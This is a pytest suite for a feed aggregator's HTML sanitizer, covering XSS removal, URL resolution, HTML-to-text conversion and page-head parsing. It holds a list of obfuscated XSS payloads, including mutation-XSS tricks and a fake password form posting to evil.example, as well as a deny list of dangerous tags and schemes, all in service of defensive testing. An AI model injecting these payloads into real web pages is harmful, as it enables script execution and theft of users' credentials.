"""sanitize: what survives clean_html, and how HTML becomes text."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from aggregator.sanitize import (
    LinkTag,
    clean_html,
    html_to_text,
    links_in,
    page_head,
    plain_text,
)

BASE = "https://blog.example.org/2024/03/post/"

# Elements that run code, load other documents, restyle the page or submit data.
DANGEROUS_TAGS = {
    *("script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "svg"),
    *("math", "form", "input", "button", "textarea", "select", "base", "meta", "link"),
    *("template", "noscript", "video", "audio", "source", "track", "portal"),
}
URL_ATTRIBUTES = frozenset({"href", "src", "cite", "action", "formaction", "background", "poster"})
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.findings: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in DANGEROUS_TAGS:
            self.findings.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcset", "srcdoc"):
                self.findings.append(f"{tag} {name}=")
            if name in URL_ATTRIBUTES and value is not None:
                squeezed = "".join(ch for ch in value if ch > " ").lower()
                if squeezed.startswith(BAD_SCHEMES):
                    self.findings.append(f"{tag} {name}={value!r}")


def find_unsafe_markup(html: str) -> list[str]:
    """What in ``html`` a browser would run, load from elsewhere or let restyle the page."""
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.findings


# ── XSS ──────────────────────────────────────────────────────────────────────────────────

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x OnErRoR=alert(1)>",
    '<body onload="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="DATA:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<svg onload="alert(1)"><circle r="5"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>"
    "</mtext></math>",
    '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<a href="https://ok.example/" onclick="alert(1)" onmouseover="alert(2)">ok</a>',
    '<img src="https://ok.example/i.png" srcset="javascript:alert(1) 1x">',
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
    '<video poster="javascript:alert(1)"><source src="x"></video>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<template><img src=x onerror=alert(1)></template>",
]


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_is_neutralized(payload: str) -> None:
    cleaned = clean_html(f"<p>before</p>{payload}<p>after</p>", BASE)
    assert find_unsafe_markup(cleaned) == []
    assert "<script" not in cleaned.lower()  # what is left of a script is inert text
    assert cleaned.startswith("<p>before</p>")


def test_inspector_itself_spots_unsafe_markup() -> None:
    # guards the guard: the helper the corpus tests rely on must see what it looks for
    assert find_unsafe_markup('<a href=" JaVa\tscript:x()">x</a>') != []
    assert find_unsafe_markup("<img src=x onerror=y>") != []
    assert find_unsafe_markup("<p style=color:red>x</p>") != []
    assert find_unsafe_markup("<script></script>") != []
    assert find_unsafe_markup("<p>onerror=alert(1) in text is harmless</p>") == []


def test_script_and_style_content_is_dropped_not_shown() -> None:
    cleaned = clean_html(
        "<p>a</p><script>var secret = 1;</script><style>p{color:red}</style>", BASE
    )
    assert cleaned == "<p>a</p>"


def test_unknown_and_forbidden_tags_keep_their_text() -> None:
    cleaned = clean_html(
        "<section><marquee>moving</marquee> <font color=red>text</font></section>", BASE
    )
    assert cleaned == "moving text"


def test_class_id_and_style_attributes_are_dropped() -> None:
    cleaned = clean_html('<p class="x" id="y" style="color:red" lang="en">t</p>', BASE)
    assert cleaned == '<p lang="en">t</p>'


# ── links and URLs ───────────────────────────────────────────────────────────────────────


def test_links_get_rel_and_lose_target() -> None:
    cleaned = clean_html('<a href="https://x.example/" target="_blank" rel="me">x</a>', BASE)
    assert cleaned == '<a href="https://x.example/" rel="nofollow noopener noreferrer">x</a>'


@pytest.mark.parametrize(
    ("href", "resolved"),
    [
        ("/about/", "https://blog.example.org/about/"),
        ("../../02/older/", "https://blog.example.org/2024/02/older/"),
        ("image.png", "https://blog.example.org/2024/03/post/image.png"),
        ("?page=2", "https://blog.example.org/2024/03/post/?page=2"),
        ("#footnote-1", "https://blog.example.org/2024/03/post/#footnote-1"),
        ("//cdn.example.net/x.js", "https://cdn.example.net/x.js"),
        ("https://other.example/a?b=1&c=2", "https://other.example/a?b=1&amp;c=2"),
    ],
)
def test_relative_urls_resolve_against_the_base(href: str, resolved: str) -> None:
    cleaned = clean_html(f'<a href="{href}">x</a><img src="{href}">', BASE)
    assert f'<a href="{resolved}"' in cleaned
    assert f'<img src="{resolved}">' in cleaned


@pytest.mark.parametrize("base", [None, "", "feed.xml", "ftp://files.example/", "not a url at all"])
def test_relative_urls_are_dropped_without_a_usable_base(base: str | None) -> None:
    cleaned = clean_html('<a href="/about/">about</a> <img src="i.png" alt="i">', base)
    assert cleaned == '<a rel="nofollow noopener noreferrer">about</a> <img alt="i">'


def test_absolute_and_mailto_urls_survive() -> None:
    cleaned = clean_html(
        '<a href="mailto:me@example.org">mail</a> <a href="http://x.example/">x</a>', BASE
    )
    assert 'href="mailto:me@example.org"' in cleaned
    assert 'href="http://x.example/"' in cleaned


def test_other_schemes_are_dropped() -> None:
    cleaned = clean_html('<a href="ftp://x.example/f">f</a><a href="tel:+1234">t</a>', BASE)
    assert "href" not in cleaned


def test_formatting_and_structure_survive() -> None:
    fragment = (
        "<h2>Title</h2><p><em>e</em> <strong>s</strong> <code>c</code> <sub>1</sub><sup>2</sup></p>"
        "<pre>  indented\n    code</pre><blockquote><p>q</p></blockquote>"
        '<ol start="3"><li>three</li></ol><dl><dt>t</dt><dd>d</dd></dl>'
        '<table><thead><tr><th scope="col">h</th></tr></thead><tbody><tr><td colspan="2">c</td>'
        "</tr></tbody></table>"
        '<figure><img src="https://x.example/i.png" alt="i"><figcaption>cap</figcaption></figure>'
        '<details><summary>more</summary>hidden</details><abbr title="World Health Org">WHO</abbr>'
        '<time datetime="2024-03-01">March</time><del>old</del><ins>new</ins><hr>'
    )
    assert clean_html(fragment, BASE) == fragment


def test_comments_are_removed() -> None:
    assert clean_html("<p>a<!-- secret -->b</p>", BASE) == "<p>ab</p>"


def test_links_in_lists_absolute_web_links_once_in_order() -> None:
    cleaned = clean_html(
        '<a href="https://b.example/">b</a> <a href="/local">l</a> <a href="mailto:x@y.z">m</a>'
        '<a href="https://a.example/?x=1&amp;y=2">a</a> <a href="https://b.example/">again</a>'
        '<a title="no href">n</a> <a title="a &gt; b" href="http://c.example/">c</a>',
        BASE,
    )
    assert links_in(cleaned) == (
        "https://b.example/",
        "https://blog.example.org/local",
        "https://a.example/?x=1&y=2",
        "http://c.example/",
    )


def test_links_in_empty_html() -> None:
    assert links_in("") == ()
    assert links_in("<p>no links</p>") == ()


# ── text ─────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>a</p><p>b</p>", "a\n\nb"),
        ("<div>a</div><div>b</div>", "a\n\nb"),
        ("<h2>Title</h2>Body", "Title\n\nBody"),
        ("a<br>b", "a\nb"),
        ("a<br/><br/>b", "a\n\nb"),
        ("<ul><li>one</li><li>two</li></ul>", "one\ntwo"),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\nc"),
        ("a<span>b</span>c <em>d</em>", "abc d"),
        ("  lots   of\n\n spaces\t here ", "lots of spaces here"),
        ("<p>  padded  </p>  <p>\n second \n</p>", "padded\n\nsecond"),
        ("Fish &amp; chips &lt;3 &eacute;t&eacute; &#8217; &#x2014;", "Fish & chips <3 été ’ —"),
        ("non&nbsp;breaking&nbsp;&nbsp;space", "non breaking space"),
        ("<p>keep</p><script>alert('drop')</script><style>p{}</style>", "keep"),
        ("a<!-- comment -->b", "ab"),
        ("<blockquote><p>quoted</p></blockquote><p>after</p>", "quoted\n\nafter"),
        ("<p>x &lt;p&gt; y</p>", "x <p> y"),
        ("just text", "just text"),
        ("", ""),
        ("<p></p><p> </p>", ""),
    ],
)
def test_html_to_text(html: str, text: str) -> None:
    assert html_to_text(html) == text


def test_html_to_text_never_glues_blocks_together() -> None:
    text = html_to_text("<p>end.</p><p>Start</p><div>x</div><h3>y</h3><li>z</li>")
    assert "end.Start" not in text and "xy" not in text and "yz" not in text


@pytest.mark.parametrize(
    ("value", "text"),
    [
        ("  A <b>bold</b>\n title ", "A bold title"),
        ("AT&amp;T &#8211; news", "AT&T – news"),
        ("<p>one</p><p>two</p>", "one two"),
        ("x < y and y > z", "x < y and y > z"),
        ("Plain", "Plain"),
        ("", ""),
        ("<script>alert(1)</script>Name", "Name"),
        ("Vec<String> in Rust", "Vec<String> in Rust"),
        ("Option<Box<dyn Error>>", "Option<Box<dyn Error>>"),
        ("I <3 compost", "I <3 compost"),
        ("Q&A &notice AT&T", "Q&A &notice AT&T"),
        ("Escaped twice: &lt;b&gt;bold&lt;/b&gt; &amp;amp;", "Escaped twice: bold &"),
        ("Vec&lt;String&gt;", "Vec<String>"),
        ("&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;Title", "Title"),
    ],
)
def test_plain_text(value: str, text: str) -> None:
    assert plain_text(value) == text


# ── the head of a page ───────────────────────────────────────────────────────────────────


def test_page_head_finds_title_base_and_links() -> None:
    head = page_head(
        "<!doctype html><html><head><title> Rivers &amp; Rain\n</title>"
        '<base href=" /blog/ "><base href="/ignored/">'
        '<link rel="alternate" type="application/rss+xml" title="A &raquo; B" href="feed/">'
        '<link rel="stylesheet" href="s.css"></head>'
        "<body><svg><title>not this</title></svg></body></html>"
    )
    assert head.title == "Rivers & Rain"
    assert head.base == "/blog/"
    assert head.links == (
        LinkTag(rel="alternate", type="application/rss+xml", href="feed/", title="A » B"),
        LinkTag(rel="stylesheet", type="", href="s.css", title=""),
    )


def test_page_head_ignores_links_a_browser_would_not_see() -> None:
    head = page_head(
        '<!-- <link rel="alternate" type="application/rss+xml" href="/commented/"> -->'
        '<script>var s = \'<link rel="alternate" href="/scripted/">\';</script>'
        '<img alt="<link rel=alternate href=/in-attribute/>">'
        '<link rel="alternate" type="application/rss+xml" href="javascript:alert(1)">'
        '<link rel="alternate" type="application/atom+xml" href="/real/">'
    )
    assert [link.href for link in head.links] == ["", "/real/"]
    assert head.title is None and head.base is None


def test_page_head_survives_markup_that_breaks_html_parser() -> None:
    # html.parser raises AssertionError on "<![>"; html5ever reads it as a bogus comment
    head = page_head('<![><link rel="alternate" type="application/rss+xml" href="/f">')
    assert [link.href for link in head.links] == ["/f"]
